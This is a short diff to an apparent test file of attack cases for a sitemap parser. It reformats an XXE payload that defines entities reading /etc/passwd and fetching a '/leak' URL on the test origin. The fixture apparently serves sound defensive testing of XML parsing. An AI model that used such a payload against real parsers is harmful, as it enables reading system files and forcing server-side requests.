@@ -14,7 +14,8 @@ export const sitemapAttackCases: readonly FaultCase[] = [
       '/': home,
       '/sitemap.xml': ({ origin }) =>
         xml(
-          `<!DOCTYPE urlset [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "${origin}/leak">]>\n${urlset([`${origin}/ok`, `${origin}/x&secret;&web;`])}`,
+          `<!DOCTYPE urlset [<!ENTITY secret SYSTEM "file:///etc/passwd">` +
+            `<!ENTITY web SYSTEM "${origin}/leak">]>\n${urlset([`${origin}/ok`, `${origin}/x&secret;&web;`])}`,
         ),
       '/ok': leaf,
     },
